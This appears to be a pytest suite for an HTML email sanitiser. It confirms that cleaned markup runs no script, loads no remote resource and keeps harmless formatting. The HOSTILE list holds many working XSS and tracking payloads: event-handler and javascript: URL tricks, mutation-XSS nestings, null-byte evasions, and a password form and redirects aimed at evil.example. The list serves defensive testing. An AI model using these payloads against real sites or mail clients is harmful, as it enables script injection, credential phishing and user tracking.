"""Markup of letters is harmless when it is shown: nothing runs, nothing is fetched, nothing is sent (S6)."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest

from shouwen.conversations.email import markup

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://tracker.example/p.gif">',
    '<img srcset="http://tracker.example/p.gif 2x" data-src="http://tracker.example/q.gif">',
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="/accounts/logout/">x</a>',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//evil.example></object><embed src=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name=password><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<p style="background:url(//tracker.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>@import '//evil.example/x.css'; body{background:url(//tracker.example)}</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<table background="//tracker.example/x.gif"><tr><td background="//tracker.example/y.gif">x</td></tr></table>',
    '<body background="//tracker.example/x.gif" onload=alert(1)>',
    '<video src="//tracker.example" poster="//tracker.example/p.png" autoplay></video><audio src="//tracker.example"></audio>',
    '<input type=image src="//tracker.example/x.gif">',
    "<p onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</p>",
    '<div id="thread" class="btn" data-live="case:1" hx-get="/cases/">x</div>',
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="http://x.example" ping="//tracker.example" target="_self">x</a>',
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    '<font color="red" face="x" onclick="alert(1)">x</font>',
    "<p\x00 onclick=alert(1)>x</p><scr\x00ipt>alert(1)</script>",
]
ALLOWED = {"href", "title", "alt", "colspan", "rowspan", "align", "valign", "border", "cellpadding", "cellspacing"}
ALLOWED |= {"color", "size", "start", "dir", "lang", "rel", "target"}


class Tags(HTMLParser):
    """What a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    cleaned = markup.clean(f"<p>前</p>{html}<p>后</p>")
    for tag, attributes in Tags(cleaned).seen:
        assert tag in markup.TAGS
        assert attributes.keys() <= ALLOWED
        href = attributes.get("href")
        assert href is None or re.match(r"(?:https?://|mailto:|tel:)", href)
    assert not re.search(r"(?i)<\s*(?:script|style|svg|math|iframe|form|meta|base|link|object|embed|input)", cleaned)
    assert Tags(markup.clean(cleaned)).seen == Tags(cleaned).seen  # what a browser makes of it is what was judged


@pytest.mark.browser
def test_in_a_browser_nothing_runs_and_nothing_is_fetched(browser: Any) -> None:
    """Without the sandbox and the policy around it: the cleaning alone must do."""
    page = browser.new_page()
    asked, ran = [], []
    page.route("**/*", lambda route: (asked.append(route.request.url), route.abort()))
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.set_content("<script>alert('the alarm works')</script><img src='http://tracker.example/alarm'>")
    page.wait_for_timeout(300)
    assert (len(ran), len(asked)) == (1, 1)
    for html in HOSTILE:
        page.set_content(markup.clean(html))
        page.mouse.move(20, 20)
    page.wait_for_timeout(500)
    page.close()
    assert (len(ran), len(asked)) == (1, 1)


def test_links_leave_without_a_trace() -> None:
    cleaned = markup.clean('<a href="https://x.example/">x</a>')
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'target="_blank"' in cleaned


def test_tables_lists_and_emphasis_stay() -> None:
    html = "<table><tbody><tr><td>单号</td><td><b>100200</b></td></tr></tbody></table><ul><li>一</li></ul>"
    assert markup.clean(html) == html


def test_a_huge_or_deep_page_is_cleaned_in_no_time() -> None:
    assert "x" in markup.clean("<div>" * 200_000 + "x")
    assert len(markup.clean("<p>a</p>" * 1_000_000)) <= markup.LARGEST
